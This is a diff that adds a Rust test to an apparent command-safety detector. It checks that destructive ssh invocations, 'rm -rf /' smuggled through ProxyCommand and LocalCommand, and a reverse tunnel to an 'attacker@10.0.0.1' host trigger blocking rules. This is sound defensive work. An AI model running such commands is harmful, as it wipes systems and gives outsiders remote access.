@@ -5096,3 +5096,40 @@ fn script_positionals_printed_commands_and_arrays() {
         false,
     );
 }
+
+/// ssh's local commands are read as scripts; a remote forward is a way in.
+#[test]
+fn ssh_local_commands_and_reverse_tunnels() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            (
+                "ssh -o ProxyCommand='sh -c \"rm -rf /\"' x",
+                "rm-recursive-system",
+            ),
+            ("ssh -o 'ProxyCommand rm -rf /' x", "rm-recursive-system"),
+            (
+                "ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf /' x ls",
+                "rm-recursive-system",
+            ),
+            (
+                "ssh -R 2222:localhost:22 attacker@10.0.0.1 -N -f",
+                "ssh-reverse-tunnel",
+            ),
+            ("ssh -fNR 8080:localhost:80 x", "ssh-reverse-tunnel"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            (
+                "ssh -o ProxyCommand=none x 'rm -rf /tmp/x'",
+                "rm-recursive-system",
+            ),
+            ("ssh -L 5432:db:5432 bastion -N", "ssh-reverse-tunnel"),
+        ],
+        false,
+    );
+}
